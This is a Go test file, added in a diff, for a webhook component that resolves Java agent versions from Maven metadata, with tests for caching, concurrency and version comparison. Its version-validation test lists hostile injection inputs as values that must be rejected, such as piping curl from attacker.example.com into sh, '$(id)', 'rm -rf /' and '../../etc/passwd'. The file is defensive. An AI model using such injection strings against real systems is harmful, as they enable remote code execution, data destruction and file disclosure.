@@ -0,0 +1,247 @@
+package webhooks
+
+import (
+	"net/http"
+	"net/http/httptest"
+	"strings"
+	"sync/atomic"
+	"testing"
+	"time"
+
+	"github.com/stretchr/testify/assert"
+)
+
+const testMavenMetadata = `<?xml version="1.0" encoding="UTF-8"?>
+<metadata>
+  <groupId>com.contrastsecurity</groupId>
+  <artifactId>contrast-agent</artifactId>
+  <versioning>
+    <latest>4.0.0-SNAPSHOT</latest>
+    <release>3.10.2.27000</release>
+    <versions>
+      <version>3.8.7.21531</version>
+      <version>3.8.10.22000</version>
+      <version>3.9.0.23000</version>
+      <version>3.10.2.27000</version>
+      <version>4.0.0-SNAPSHOT</version>
+    </versions>
+  </versioning>
+</metadata>
+`
+
+func newTestMavenRepository(t *testing.T, requests *int, available *bool) *httptest.Server {
+	repository := httptest.NewServer(http.HandlerFunc(func(response http.ResponseWriter, request *http.Request) {
+		*requests++
+		if !*available {
+			http.Error(response, "unavailable", http.StatusServiceUnavailable)
+			return
+		}
+		if request.URL.Path != "/com/contrastsecurity/contrast-agent/maven-metadata.xml" {
+			http.NotFound(response, request)
+			return
+		}
+		_, _ = response.Write([]byte(testMavenMetadata))
+	}))
+	t.Cleanup(repository.Close)
+	return repository
+}
+
+func TestResolveVersion(t *testing.T) {
+	requests := 0
+	available := true
+	repository := newTestMavenRepository(t, &requests, &available)
+
+	definition := AgentDefinition{
+		Language: "java",
+		Artifact: &ArtifactDefinition{
+			Group:       "com.contrastsecurity",
+			Artifact:    "contrast-agent",
+			URL:         repository.URL + "/{{ .Artifact }}-{{ .Version }}.jar",
+			MetadataURL: repository.URL + `/{{ replace .Group "." "/" }}/{{ .Artifact }}/maven-metadata.xml`,
+		},
+	}
+
+	tests := []struct {
+		version  string
+		expected string
+	}{
+		{version: "latest", expected: "3.10.2.27000"},
+		{version: "LATEST", expected: "3.10.2.27000"},
+		{version: "3.x", expected: "3.10.2.27000"},
+		{version: "3.8.x", expected: "3.8.10.22000"},
+		{version: "3.8.7.*", expected: "3.8.7.21531"},
+		{version: "3.8.7.21531", expected: "3.8.7.21531"},
+	}
+
+	resolver := NewVersionResolver(http.DefaultClient, time.Minute)
+	for _, test := range tests {
+		t.Run(test.version, func(t *testing.T) {
+			version, err := resolver.resolve(definition, test.version)
+			assert.NoError(t, err)
+			assert.Equal(t, test.expected, version)
+		})
+	}
+	assert.Equal(t, 1, requests, "metadata should be cached")
+
+	_, err := resolver.resolve(definition, "4.x")
+	assert.EqualError(t, err, "no version of contrast-agent matches 4.x")
+
+	// Agents without metadata are passed through to the init container
+	version, err := resolver.resolve(AgentDefinition{Language: "node"}, "latest")
+	assert.NoError(t, err)
+	assert.Equal(t, "latest", version)
+}
+
+func TestResolveVersionCache(t *testing.T) {
+	requests := 0
+	available := true
+	repository := newTestMavenRepository(t, &requests, &available)
+
+	definition := AgentDefinition{
+		Language: "java",
+		Artifact: &ArtifactDefinition{
+			Group:       "com.contrastsecurity",
+			Artifact:    "contrast-agent",
+			URL:         repository.URL + "/{{ .Artifact }}-{{ .Version }}.jar",
+			MetadataURL: repository.URL + "/com/contrastsecurity/contrast-agent/maven-metadata.xml",
+		},
+	}
+
+	now := time.Now()
+	resolver := NewVersionResolver(http.DefaultClient, time.Minute)
+	resolver.now = func() time.Time { return now }
+
+	_, err := resolver.resolve(definition, "latest")
+	assert.NoError(t, err)
+	assert.Equal(t, 1, requests)
+
+	// Expired metadata is fetched again
+	now = now.Add(2 * time.Minute)
+	_, err = resolver.resolve(definition, "latest")
+	assert.NoError(t, err)
+	assert.Equal(t, 2, requests)
+
+	// Expired metadata is used when the repository is unavailable
+	available = false
+	now = now.Add(2 * time.Minute)
+	version, err := resolver.resolve(definition, "3.9.x")
+	assert.NoError(t, err)
+	assert.Equal(t, "3.9.0.23000", version)
+	assert.Equal(t, 3, requests)
+
+	_, err = NewVersionResolver(http.DefaultClient, time.Minute).resolve(definition, "latest")
+	assert.Error(t, err)
+}
+
+func TestResolveVersionSlowRepository(t *testing.T) {
+	var slowRequests int32
+	requested := make(chan struct{}, 1)
+	release := make(chan struct{})
+	slowRepository := httptest.NewServer(http.HandlerFunc(func(response http.ResponseWriter, request *http.Request) {
+		atomic.AddInt32(&slowRequests, 1)
+		requested <- struct{}{}
+		<-release
+		_, _ = response.Write([]byte(testMavenMetadata))
+	}))
+	t.Cleanup(slowRepository.Close)
+	requests := 0
+	available := true
+	repository := newTestMavenRepository(t, &requests, &available)
+
+	definition := func(repositoryURL string) AgentDefinition {
+		return AgentDefinition{
+			Language: "java",
+			Artifact: &ArtifactDefinition{
+				Group:       "com.contrastsecurity",
+				Artifact:    "contrast-agent",
+				URL:         repositoryURL + "/{{ .Artifact }}-{{ .Version }}.jar",
+				MetadataURL: repositoryURL + "/com/contrastsecurity/contrast-agent/maven-metadata.xml",
+			},
+		}
+	}
+
+	resolver := NewVersionResolver(http.DefaultClient, time.Minute)
+	slowVersions := make(chan string, 2)
+	for i := 0; i < 2; i++ {
+		go func() {
+			version, _ := resolver.resolve(definition(slowRepository.URL), "3.x")
+			slowVersions <- version
+		}()
+	}
+	<-requested
+
+	// Other repositories are resolved while the slow repository is fetched
+	version, err := resolver.resolve(definition(repository.URL), "3.8.x")
+	assert.NoError(t, err)
+	assert.Equal(t, "3.8.10.22000", version)
+
+	// Admissions waiting for the same metadata share a single fetch
+	close(release)
+	assert.Equal(t, "3.10.2.27000", <-slowVersions)
+	assert.Equal(t, "3.10.2.27000", <-slowVersions)
+	assert.Equal(t, int32(1), atomic.LoadInt32(&slowRequests))
+}
+
+func TestCompareVersions(t *testing.T) {
+	assert.Equal(t, 0, compareVersions("3.8.7.21531", "3.8.7.21531"))
+	assert.True(t, compareVersions("3.10.0", "3.9.0") > 0)
+	assert.True(t, compareVersions("3.9", "3.9.1") < 0)
+	assert.True(t, compareVersions("2.1.12", "2.1.2") > 0)
+
+	// Pre-releases sort below their release
+	assert.True(t, compareVersions("4.0.0-beta", "4.0.0") < 0)
+	assert.True(t, compareVersions("4.0.0", "4.0.0-beta") > 0)
+	assert.True(t, compareVersions("4.0.0-beta.2", "4.0.0-beta.1") > 0)
+	assert.True(t, compareVersions("4.0.0-beta", "3.10.2.27000") > 0)
+}
+
+func TestSelectVersionPreRelease(t *testing.T) {
+	var metadata mavenMetadata
+	metadata.Versioning.Versions = []string{"3.10.2.27000", "4.0.0-beta", "4.0.0", "4.0.1-rc.1", "4.1.0rc1"}
+	assert.Equal(t, "4.0.0", selectVersion(metadata, "4.x"))
+	assert.Equal(t, "4.0.0", selectVersion(metadata, "latest"))
+
+	metadata.Versioning.Versions = []string{"3.10.2.27000", "4.0.0-beta"}
+	assert.Equal(t, "", selectVersion(metadata, "4.x"))
+	assert.Equal(t, "3.10.2.27000", selectVersion(metadata, "x"))
+}
+
+func TestResolveVersionWithoutMetadata(t *testing.T) {
+	resolver := NewVersionResolver(http.DefaultClient, time.Minute)
+	for _, language := range []string{"python", "ruby", "dotnet-core"} {
+		definition := DefaultAgentRegistry()[language]
+		version, err := resolver.resolve(definition, "latest")
+		assert.NoError(t, err)
+		assert.Equal(t, "latest", version)
+		version, err = resolver.resolve(definition, "3.4.0")
+		assert.NoError(t, err)
+		assert.Equal(t, "3.4.0", version)
+		_, err = resolver.resolve(definition, "3.x")
+		assert.EqualError(t, err, "contrast-agent-injector/version is invalid: version ranges such as 3.x can't be resolved for the "+language+" agent, use a version or latest")
+	}
+}
+
+func TestValidateVersion(t *testing.T) {
+	valid := []string{"3.8.7.21531", "2.1.12", "4.0.0-beta.1", "5.0.0rc1", "1.2.3+build.5", "latest", "LATEST", "3.x", "3.8.*", "x", "*"}
+	for _, version := range valid {
+		assert.NoError(t, validateVersion(version), version)
+	}
+
+	invalid := []string{
+		"",
+		"3.8.7; curl https://attacker.example.com | sh",
+		"$(id)",
+		"`id`",
+		"3.8.7 && rm -rf /",
+		"3.8.7\nid",
+		"../../etc/passwd",
+		"3.8.7/../../evil",
+		"3.8.7?r=evil",
+		"3.x.1",
+		"latest; id",
+		"1." + strings.Repeat("0", maxVersionLength),
+	}
+	for _, version := range invalid {
+		assert.Error(t, validateVersion(version), version)
+	}
+}